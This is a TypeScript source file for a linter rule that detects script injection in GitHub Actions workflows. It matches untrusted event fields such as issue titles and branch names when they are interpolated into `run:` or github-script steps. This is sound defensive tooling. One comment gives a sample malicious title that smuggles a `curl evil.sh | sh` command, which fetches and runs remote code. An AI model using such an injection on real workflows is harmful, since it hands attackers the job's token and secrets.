import { defineTextRule } from '../../engine/rule.js';
import { expressionsIn, parseUses, stepsOf, workflowOf, type ScalarAt } from './workflow.js';

/**
 * Event fields anyone who can open an issue, pull request or comment controls (GitHub Security Lab's list):
 * titles, bodies, branch names, commit messages and author names.
 */
const UNTRUSTED = [
  /\bgithub\.head_ref\b/,
  /\bgithub\.event\.(?:issue|pull_request|discussion)\.(?:title|body)\b/,
  /\bgithub\.event\.(?:comment|review|review_comment)\.body\b/,
  /\bgithub\.event\.pages\b[^}]*\.page_name\b/,
  /\bgithub\.event\.(?:head_commit|workflow_run\.head_commit|commits\b[^}]*?)\.(?:message|author\.(?:name|email)|committer\.(?:name|email))\b/,
  /\bgithub\.event\.pull_request\.head\.(?:ref|label|repo\.default_branch)\b/,
  /\bgithub\.event\.workflow_run\.(?:head_branch|display_title)\b/,
  /\bgithub\.event\.workflow_run\.pull_requests\b[^}]*\.head\.ref\b/,
];

/** The untrusted field an expression reads, as written, or undefined. */
export function untrustedField(expr: string): string | undefined {
  for (const re of UNTRUSTED) {
    const m = re.exec(expr);
    if (m) return m[0];
  }
  return undefined;
}

/**
 * `${{ github.event.issue.title }}` inside `run:` is pasted into the shell script before it runs, so a title
 * such as `"; curl evil.sh | sh #` runs as code with the job's token and secrets. Values passed through `env:`
 * are data, not script text.
 */
export const actionsScriptInjection = defineTextRule({
  id: 'actions-script-injection',
  messageIds: ['inRun', 'inScript'],
  appliesTo: { languages: ['yaml'] },
  check({ file, report }) {
    const wf = workflowOf(file);
    if (!wf) return;
    const scan = (at: ScalarAt, messageId: 'inRun' | 'inScript') => {
      for (const e of expressionsIn(file, at)) {
        const field = untrustedField(e.expr);
        if (field) report({ messageId, data: { field }, offsets: { start: e.start, end: e.end } });
      }
    };
    for (const { step } of stepsOf(wf)) {
      if (step.run) scan(step.run, 'inRun');
      const uses = step.uses && parseUses(step.uses.value);
      const script = step.with.get('script');
      if (uses && uses.owner === 'actions' && uses.repo === 'github-script' && script) scan(script, 'inScript');
    }
  },
});
